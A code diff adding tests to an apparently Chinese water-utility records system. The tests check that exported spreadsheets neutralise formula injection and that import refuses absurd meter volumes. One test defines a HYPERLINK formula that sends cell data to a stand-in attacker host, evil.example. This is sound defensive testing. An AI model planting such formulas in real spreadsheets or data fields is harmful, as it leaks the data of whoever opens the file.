@@ -224,3 +224,54 @@ def test_a_sheet_without_file_numbers_is_matched_on_the_uscc(app, tmp_path):
     assert report.applied and report.counts["water_users"].updated == 1
     db.session.refresh(wu)
     assert wu.contact_name == "张伟"
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+
+
+def test_item8_formulas_in_text_are_exported_as_text_and_reimport_changes_nothing(app, tmp_path):
+    import zipfile
+
+    wu, meters = _meters(1)
+    f.ReadingFactory(meter=meters[0], water_user_id=wu.id, period=date(2025, 11, 1), volume_m3=1234.5)
+    texts = {"notes": EVIL, "contact_phone": "+86 579 8555 1234", "address": "-稠城街道", "legal_representative": "@王建国",
+             "contact_name": "'=李海燕"}  # already quoted: the reader takes off exactly one quote
+    f.WaterUserFactory(file_no="YW-2020-0002", **texts)
+    for fmt in ("xlsx", "csv"):
+        path = tmp_path / f"all.{fmt}"
+        with open(path, "wb") as fh:
+            exchange.export(db.session, f.admin(), fh, fmt, kinds=None if fmt == "xlsx" else ["water_users"])
+        if fmt == "xlsx":
+            with zipfile.ZipFile(path) as archive:
+                sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+                assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
+            book = load_workbook(path)
+            cells = {c.value: c for row in book.worksheets[0].iter_rows() for c in row}
+            assert cells[EVIL].data_type == "s"
+            assert all(c.data_type == "n" for row in book["取水口"].iter_rows(min_row=2) for c in row[4:6])
+        else:
+            with open(path, encoding="utf-8-sig", newline="") as fh:
+                row = next(r for r in csv.reader(fh) if "YW-2020-0002" in r)
+            assert "'" + EVIL in row and "'+86 579 8555 1234" in row and "'-稠城街道" in row and "'@王建国" in row
+            assert "''=李海燕" in row
+        before = _count(AuditEvent)
+        report = exchange.run(db.session, f.admin(), path, fmt, apply=True)
+        assert report.ok and report.changes == 0, [e.text() for e in report.errors]
+        assert _count(AuditEvent) == before
+        stored = db.session.execute(select(WaterUser).where(WaterUser.file_no == "YW-2020-0002")).scalar_one()
+        assert {k: getattr(stored, k) for k in texts} == texts
+
+
+def test_item2_absurd_volumes_in_an_import_are_refused_naming_the_cell(app, tmp_path):
+    wu, meters = _meters(1)
+    rows = [[wu.file_no, meters[0].serial, month, volume, None, "人工抄表"]
+            for month, volume in zip(_months(3), (1.7e308, "1" * 400, "9" * 5000))]
+    path = tmp_path / "readings.csv"
+    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
+        csv.writer(fh).writerows([READING_HEADER, *rows])
+
+    report = exchange.run(db.session, f.admin(), path, "csv", apply=True)
+
+    assert not report.applied and _count(Reading) == 0
+    assert [(e.row, e.column) for e in report.errors] == [(2, "D"), (3, "D"), (4, "D")]
+    assert all("不能超过 100,000,000 m³" in e.text() for e in report.errors), [e.text() for e in report.errors]
